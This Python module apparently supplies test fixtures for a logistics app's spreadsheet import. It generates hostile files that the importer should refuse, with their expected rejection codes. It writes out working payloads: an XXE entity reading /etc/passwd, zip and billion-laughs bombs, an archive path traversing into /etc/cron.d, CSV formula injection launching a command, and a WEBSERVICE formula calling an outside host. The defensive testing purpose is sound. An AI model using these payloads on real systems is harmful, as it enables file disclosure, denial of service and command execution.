"""Files that somebody might send to stop or rob the server (恶意文件), made when a test asks for them."""

from __future__ import annotations

import struct
import zipfile
from collections.abc import Callable
from pathlib import Path

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_RELS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml"'
    ' ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
)
_ROOT = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_RELS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_BOOK = (
    f'<?xml version="1.0"?><workbook {_NS} xmlns:r="{_RELS}"><sheets>'
    '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_BOOK_RELS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="rId1" Type="{_RELS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def text_cell(address: str, text: str) -> str:
    """Return the XML of one cell with text in it."""
    return f'<c r="{address}" t="inlineStr"><is><t>{text}</t></is></c>'


def workbook(
    path: Path, rows: str, *, before: str = "", dimension: str = "", extra: dict[str, str] | None = None
) -> Path:
    """Write a workbook of one sheet from the XML of its rows."""
    sheet = f'<?xml version="1.0"?>{before}<worksheet {_NS}>{dimension}<sheetData>{rows}</sheetData></worksheet>'
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", _TYPES)
        archive.writestr("_rels/.rels", _ROOT)
        archive.writestr("xl/workbook.xml", _BOOK)
        archive.writestr("xl/_rels/workbook.xml.rels", _BOOK_RELS)
        archive.writestr("xl/worksheets/sheet1.xml", sheet)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return path


def far_cell(path: Path) -> Path:
    """A few kilobytes that claim a million rows of sixteen thousand columns."""
    rows = f'<row r="1">{text_cell("A1", "运单号")}</row><row r="1048576">{text_cell("XFD1048576", "x")}</row>'
    return workbook(path, rows, dimension='<dimension ref="A1:XFD1048576"/>')


def last_row(path: Path) -> Path:
    """A table with one more value in the very last row."""
    rows = "".join(f'<row r="{n}">{text_cell(f"A{n}", f"单{n}")}{text_cell(f"B{n}", "洞头")}</row>' for n in (1, 2, 3))
    return workbook(path, rows + f'<row r="1048576">{text_cell("A1048576", "x")}</row>')


def zip_bomb(path: Path) -> Path:
    """A sheet that unpacks to 300 MB."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", _BOOK)
        with archive.open("xl/worksheets/sheet1.xml", "w") as sheet:
            block = b" " * (1 << 20)
            for _ in range(300):
                sheet.write(block)
    return path


def lying_bomb(path: Path) -> Path:
    """A bomb whose directory claims that its sheet is small."""
    workbook(path, "", extra={"xl/sharedStrings.xml": " " * (300 << 20)})
    content = bytearray(path.read_bytes())
    true_size = struct.pack("<I", 300 << 20)
    while (at := content.find(true_size)) >= 0:
        content[at : at + 4] = struct.pack("<I", 1000)
    path.write_bytes(content)
    return path


def entity_attack(path: Path) -> Path:
    """A sheet that asks to read a file of the server (XXE)."""
    declared = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    return workbook(path, f'<row r="1">{text_cell("A1", "&secret;")}</row>', before=declared)


def billion_laughs(path: Path) -> Path:
    """A sheet whose entities double at each level."""
    levels = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    declared = f'<!DOCTYPE x [<!ENTITY l0 "哈">{levels}]>'
    return workbook(path, f'<row r="1">{text_cell("A1", "&l9;")}</row>', before=declared)


def outside_member(path: Path) -> Path:
    """An archive with a member that wants to be written elsewhere."""
    return workbook(path, "", extra={"../../../etc/cron.d/x": "* * * * * root x"})


def truncated(path: Path) -> Path:
    """Half of a download."""
    workbook(path, f'<row r="1">{text_cell("A1", "运单号")}</row>')
    path.write_bytes(path.read_bytes()[:-200])
    return path


def empty(path: Path) -> Path:
    """Nothing at all."""
    path.write_bytes(b"")
    return path


def many_columns(path: Path) -> Path:
    """A header of 16,384 columns."""
    cells = "".join(text_cell(f"{_letters(n)}1", f"列{n}") for n in range(16_384))
    return workbook(path, f'<row r="1">{cells}</row>')


def password_protected(path: Path) -> Path:
    """What Excel writes when a workbook has a password: an OLE file with an encrypted package."""
    path.write_bytes(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + "EncryptedPackage".encode("utf-16-le") + bytes(4096)
    )
    return path


def picture(path: Path) -> Path:
    """A picture with the name of a table."""
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(300))
    return path


def web_page(path: Path) -> Path:
    """What many systems call an Excel export."""
    path.write_text("<html><body><table><tr><td>运单号</td></tr></table></body></html>", encoding="utf-8")
    return path


def formula_text(path: Path) -> Path:
    """Texts that a spreadsheet would run, and a formula that calls out."""
    call = '<c r="B2" t="str"><f>WEBSERVICE("http://203.0.113.1/")</f><v>旧值</v></c>'
    rows = (
        f'<row r="1">{text_cell("A1", "运单号")}{text_cell("B1", "备注")}</row>'
        f'<row r="2">{text_cell("A2", "=cmd|&apos; /C calc&apos;!A0")}{call}</row>'
    )
    return workbook(path, rows)


def nul_bytes(path: Path) -> Path:
    """A CSV with NUL characters far inside."""
    path.write_bytes("运单号,备注\n".encode() + "773,一\n".encode() * 800 + b"774,a\x00b\n")
    return path


def _letters(index: int) -> str:
    letters = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


#: Those that are refused, with the code of the refusal.
REFUSED: tuple[tuple[Callable[[Path], Path], str], ...] = (
    (far_cell, "import.memory"),
    (zip_bomb, "import.bomb"),
    (lying_bomb, "import.damaged"),
    (entity_attack, "import.suspicious"),
    (billion_laughs, "import.suspicious"),
    (outside_member, "import.suspicious"),
    (truncated, "import.damaged"),
    (empty, "import.empty_file"),
    (many_columns, "import.columns"),
    (password_protected, "import.password"),
    (picture, "import.no_table"),
    (web_page, "import.web_page"),
)
